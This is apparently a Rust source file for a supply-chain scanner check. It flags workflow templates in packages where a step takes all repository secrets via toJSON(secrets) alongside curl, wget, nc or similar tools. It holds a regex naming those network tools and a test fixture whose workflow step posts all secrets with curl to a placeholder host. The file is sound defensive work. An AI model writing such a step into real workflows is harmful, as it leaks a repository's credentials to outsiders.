//! Workflows of a forge that a package carries and that send all secrets of a repository away.

use std::sync::LazyLock;

use regex::Regex;

use super::{Check, Subject, context};
use crate::model::{Ecosystem, Finding, LineIndex};

/// Largest file that is searched, in bytes.
const MAX_FILE: usize = 1 << 20;

/// Steps that take all secrets and connect to a host.
#[derive(Debug)]
pub struct Workflow;

/// All secrets as one value.
static ALL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\btojson\(\s*secrets\s*\)").expect("the expression is valid"));

/// A program that connects to an address.
static SENDS: LazyLock<Regex> = LazyLock::new(|| {
    let text = r"(?i)\b(?:curl|wget|nc|ncat|invoke-webrequest|invoke-restmethod|iwr|irm|fetch\(|requests\.post|urlopen)\b?[^\n]*";
    Regex::new(text).expect("the expression is valid")
});

impl Check for Workflow {
    fn rules(&self) -> &'static [&'static str] {
        &["malice/planted-workflow"]
    }

    fn run(&self, subject: &Subject<'_>, out: &mut Vec<Finding>) {
        // Those of an agent's package are looked at more closely.
        if subject.package.first_party || subject.package.ecosystem == Ecosystem::Agent {
            return;
        }
        let template = |path: &str| {
            let ending = context::ending(path);
            matches!(ending, "yml" | "yaml" | "tpl" | "hbs" | "ejs" | "tmpl" | "j2" | "mustache")
                && !context::is_test_path(path)
        };
        for (path, source) in context::texts(subject.contents, MAX_FILE, template) {
            if let Some((from, to)) = sent(source) {
                let span = LineIndex::new(path, source).span(from, to);
                let message = "carries a workflow with a step that sends all secrets away";
                out.push(Finding::new("malice/planted-workflow", message, vec![span]));
            }
        }
    }
}

/// Where all secrets are taken by a step that sends something.
fn sent(source: &str) -> Option<(usize, usize)> {
    ALL.find_iter(source).find_map(|found| {
        let before = source.get(..found.start())?;
        let line = before.rsplit('\n').next().unwrap_or_default();
        if line.trim_start().starts_with('#') {
            return None;
        }
        let indent = line.len() - line.trim_start().len();
        // The step: from the entry of a list that stands further out to the next one.
        let starts = |line: &str| {
            let text = line.trim_start();
            text.starts_with("- ") && line.len() - text.len() <= indent
        };
        let mut from = 0;
        let mut at = 0;
        let mut to = source.len();
        for line in source.split_inclusive('\n') {
            if starts(line) {
                if at <= found.start() {
                    from = at;
                } else {
                    to = at;
                    break;
                }
            }
            at += line.len();
        }
        SENDS.is_match(source.get(from..to)?).then_some((found.start(), found.end()))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_that_a_step_sends() {
        let step = "steps:\n  - run: npm ci\n  - name: x\n    env:\n      A: ${{ toJSON(secrets) }}\n    run: curl -d \"$A\" https://h.invalid\n";
        assert!(sent(step).is_some());
        let other = "steps:\n  - run: curl https://h.invalid\n  - run: ./d.sh\n    env:\n      A: ${{ toJSON(secrets) }}\n  - run: wget https://h.invalid\n";
        assert!(sent(other).is_none());
        assert!(sent("# A: ${{ toJSON(secrets) }}\nrun: curl x\n").is_none());
    }
}
